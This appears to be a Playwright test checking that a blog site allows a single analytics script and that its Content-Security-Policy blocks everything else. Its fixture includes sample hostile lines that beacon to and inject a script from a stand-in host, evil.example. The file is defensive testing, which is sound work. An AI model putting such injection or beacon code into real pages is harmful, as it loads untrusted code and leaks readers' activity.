import { expect, type Page, test } from "playwright/test";
import { startSite } from "../start-site";
import { ArchiveFolder } from "./archive-folder";

/** An operator lets one script in that counts readers. */

const port = 3106;
const url = `http://localhost:${port}/posts/tides`;
const script = "https://stats.example/js/script.js";

const archive = new ArchiveFolder();
test.afterAll(() => archive.remove());

/** What the script at `stats.example` does, and tries to do. */
const counting = `
  document.documentElement.dataset.counted = document.currentScript.dataset.websiteId;
  void fetch("https://stats.example/count", { method: "POST", mode: "no-cors" });
  void fetch("https://evil.example/count", { mode: "no-cors" }).catch(() => {});
  for (const address of ["https://stats.example/js/other.js", "https://evil.example/x.js"]) {
    try {
      const other = document.createElement("script");
      other.src = address;
      document.head.append(other);
    } catch {}
  }
`;

/** Everything outside of the site that a page asks for; the script is there. */
async function hearRequests(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.route(/^https:/, (route) => {
    asked.push(route.request().url());
    return route.fulfill(
      route.request().url() === script
        ? { contentType: "text/javascript", body: counting }
        : { contentType: "text/javascript", body: "document.title = 'taken'" },
    );
  });
  return asked;
}

async function visitWith(page: Page, environment: Record<string, string>) {
  await archive.post("a.md", { title: "Tides", date: "2024-05-02" });
  const site = await startSite("start", { contentDirectory: archive.path, port, environment });
  try {
    const asked = await hearRequests(page);
    const response = await page.goto(url);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText("Tides");
    await page.waitForLoadState("networkidle");
    const html = (await response?.text()) ?? "";
    const policy = response?.headers()["content-security-policy"] ?? "";
    return { asked, html, policy, output: site.output };
  } finally {
    await site.stop();
  }
}

test("one script counts readers, tells its host, and brings nobody along", async ({ page }) => {
  const { asked, html, policy, output } = await visitWith(page, {
    ANALYTICS_SCRIPT: script,
    ANALYTICS_DATA: "website-id=6c3b",
  });
  expect(await page.locator("html").getAttribute("data-counted")).toBe("6c3b");
  expect([...new Set(asked)].sort()).toEqual([script, "https://stats.example/count"].sort());
  expect(await page.title()).not.toBe("taken");
  expect(policy).toMatch(/script-src 'self' https:\/\/stats\.example\/js\/script\.js;/);
  expect(policy).toContain("connect-src 'self' https://stats.example;");
  // Next's runtime is not needed for it.
  expect(html).not.toContain("/_next/static/chunks/main");
  expect(output).not.toContain("page not lean");
});

test("none is there where none is named", async ({ page }) => {
  const { asked, html, policy } = await visitWith(page, {});
  expect(asked).toEqual([]);
  expect(html).not.toContain("stats.example");
  expect(policy).toMatch(/script-src 'self';/);
});
